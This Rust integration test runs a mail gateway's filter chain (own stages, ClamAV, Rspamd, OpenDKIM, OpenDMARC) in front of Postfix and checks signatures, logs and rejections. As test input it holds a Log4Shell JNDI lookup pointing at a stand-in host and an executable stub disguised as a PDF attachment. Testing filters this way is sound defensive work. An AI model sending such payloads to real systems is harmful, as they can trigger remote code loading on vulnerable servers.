//! Everything at once: our own stages, ClamAV, Rspamd, OpenDKIM and OpenDMARC in one chain, in front of
//! Postfix.

use crate::support::{
    Client, Gate, Mta, Setup,
    dns::Dns,
    partners::{
        clamd::Clamd,
        milters::{Key, Milter},
        rspamd::{PATTERNS, Rspamd},
    },
    postfix::Postfix,
};

const MARKER: &str = "octroi-test-marker-0123456789";
const RULES: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/deploy/rules");

/// What signs, scans and receives.
struct World {
    postfix: Postfix,
    gate: Gate,
    verifying: Gate,
    mta: Mta,
    signed: Vec<u8>,
    /// They end with the test.
    _partners: (Dns, Clamd, Rspamd, [Milter; 4], Key),
}

fn mail(subject: &str, rest: &str) -> String {
    format!(
        "From: Alice <a@example.net>\r\nTo: b@example.org\r\nSubject: {subject}\r\nDate: Wed, 25 Nov 2026 10:00:00 +0000\r\n\
         Message-ID: <{subject}@example.net>\r\nMIME-Version: 1.0\r\n{rest}\r\n"
    )
}

fn world() -> Option<World> {
    let key = Key::generate()?;
    let (signer, verifier) = (Milter::opendkim(&key, true)?, Milter::opendkim(&key, false)?);
    let (dmarc, behind) = (Milter::opendmarc()?, Milter::opendkim(&key, false)?);
    let clamd = Clamd::start(&[("Octroi.Test.Marker", MARKER.as_bytes())])?;
    let (rspamd, postfix) = (Rspamd::start()?, Postfix::start("")?);
    let dns = Dns::start();
    dns.txt("sel._domainkey.example.net", &key.record()).txt("example.net", "v=spf1 ip4:192.0.2.0/24 -all");
    dns.txt("_dmarc.example.net", "v=DMARC1; p=reject");
    dns.pointer("192.0.2.7", "mail.example.net").address("mail.example.net", "192.0.2.7");

    let milter = |name: &str, milter: &Milter| {
        format!("[[stage]]\nname = \"{name}\"\ntype = \"milter\"\naddress = \"{}\"\ntimeout = \"30s\"\n", milter.address)
    };
    let own = format!(
        "[dns]\nresolvers = [\"{}\"]\n[[stage]]\ntype = \"auth\"\n[[stage]]\ntype = \"mime\"\n[[stage]]\ntype = \"attachments\"\n\
         [[stage]]\ntype = \"yara\"\nrules = [\"{RULES}\"]\n[[stage]]\nname = \"clamav\"\ntype = \"clamd\"\naddress = \"unix:{}\"\ntimeout = \"30s\"\n\
         [[stage]]\ntype = \"rspamd\"\naddress = \"inet:{}\"\ntimeout = \"30s\"\n",
        dns.address,
        clamd.socket(),
        rspamd.http,
    );
    let rule = "[[rule]]\nname = \"seen\"\nwhen = 'auth.dmarc == \"pass\" && auth.dkim == \"pass\" && clamd.signature == \"\" && rspamd.score < 15.0'\n\
        then = \"tag\"\nadd = [\"X-Seen: {auth.from_domain} {mime.parts}\"]\n";
    let stages = own + &milter("opendkim", &verifier) + &milter("opendmarc", &dmarc) + rule;
    let upstream = format!("addresses = [\"{}\"]\ntls = \"off\"", postfix.address());
    let listener = "tls = \"off\"\nproxy_protocol_from = [\"127.0.0.0/8\"]";
    let gate = Setup::before_lines(&upstream).listener("mx", listener).and(&stages).start();

    let mta = Mta::start();
    let signing = Setup::before(mta.address()).mx().and(&milter("sign", &signer)).start();
    let text = mail("signed", "\r\nHello  Bob, \r\n.\r\n\r\n");
    Client::greeted(signing.mx()).deliver("a@example.net", &["b@example.org"], text.as_bytes()).must(250);
    let signed = mta.only().content;
    let verifying = Setup::before(mta.address()).mx().and(&milter("behind", &behind)).start();
    Some(World { postfix, gate, verifying, mta, signed, _partners: (dns, clamd, rspamd, [signer, verifier, dmarc, behind], key) })
}

#[test]
fn one_chain_has_them_all_and_leaves_signatures_whole() {
    let Some(world) = world() else { return };
    // From an address that filters do not take for their own host.
    let mut client = Client::connect(world.gate.mx());
    client.send("PROXY TCP4 192.0.2.7 192.0.2.1 4711 25\r\n").banner();
    client.ask("EHLO mail.example.net").must(250);
    client.deliver("a@example.net", &["b@example.org"], &world.signed).must(250);
    let landed = String::from_utf8(world.postfix.wait_for("Subject: signed")).unwrap();

    // What each of them put in, the last one topmost, below our trace; the rule's mark at the end.
    let place = |text: &str| landed.find(text).unwrap_or_else(|| panic!("{text} is not in {landed}"));
    let trace = place("by mx.example.org (octroi)");
    let ours = place("Authentication-Results: mx.example.org");
    let theirs = landed.match_indices("Authentication-Results: verifier.example;").map(|(at, _)| at).collect::<Vec<_>>();
    assert_eq!(theirs.len(), 2, "OpenDKIM and OpenDMARC: {landed}");
    assert!(trace < theirs[0] && theirs[1] < ours && ours < place("DKIM-Signature:"), "{landed}");
    assert!(place("X-Seen: example.net 1") > place("Subject: signed"));
    for said in ["spf=pass", "dkim=pass", "dmarc=pass"] {
        place(said);
    }

    // The line says what each found, and in which order they stand.
    let line = world.gate.log_line(&["verdict=delivered", "subject=signed"]);
    for finding in ["auth.dkim=pass", "auth.dmarc=pass", "auth.spf=pass", "rspamd.score=", "mime.parts=1", "rule.matched=seen"] {
        assert!(line.contains(finding), "{finding} is not in {line}");
    }
    let stages = line.split("stages=").nth(1).unwrap();
    let order = ["auth=", "mime=", "attachments=", "yara=", "clamav=", "rspamd=", "opendkim=", "opendmarc="];
    let places: Vec<_> = order.iter().map(|stage| stages.find(stage).unwrap_or_else(|| panic!("{stage} is not in {line}"))).collect();
    assert!(places.is_sorted(), "{line}");
    assert!(!line.contains("incomplete"), "{line}");

    // Behind Postfix, the signature still verifies.
    Client::greeted(world.verifying.mx())
        .deliver("a@example.net", &["b@example.org"], landed.replace('\n', "\r\n").replace("\r\r\n", "\r\n").as_bytes())
        .must(250);
    let verified = String::from_utf8(world.mta.kept().pop().unwrap().content).unwrap();
    assert!(verified[..verified.find("X-Seen").unwrap()].contains("dkim=pass"), "{verified}");

    // And each of them refuses what is its own to refuse.
    let program = "Content-Type: application/pdf; name=x.pdf\r\nContent-Transfer-Encoding: base64\r\n\r\nTVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\r\ngAAAAA4fug4AtAnNIbgBTM0hVGhpcyBwcm9ncmFtIGNhbm5vdCBiZSBydW4gaW4gRE9TIG1vZGUu";
    let encodings = "Content-Type: text/plain\r\nContent-Transfer-Encoding: 7bit\r\nContent-Transfer-Encoding: base64\r\n\r\naGVsbG8=";
    for (stage, message) in [
        ("auth", format!("From: c@example.com\r\n{}", mail("two", "\r\nx"))),
        ("mime", mail("encodings", encodings)),
        ("attachments", mail("program", program)),
        ("yara", mail("log4shell", "X-Api-Version: ${jndi:ldap://x.example/a}\r\n\r\nx")),
        ("clamav", mail("infected", &format!("\r\n{MARKER}"))),
        ("rspamd", mail("gtube", &format!("\r\n{}", PATTERNS[0]))),
    ] {
        let reply = client.deliver("a@example.net", &["b@example.org"], message.as_bytes());
        assert_eq!(reply.code / 100, 5, "{stage}: {reply:?}");
        world.gate.log_line(&["verdict=rejected", &format!("stage={stage},")]);
    }
    assert_eq!(world.postfix.delivered_count(), 1);
}
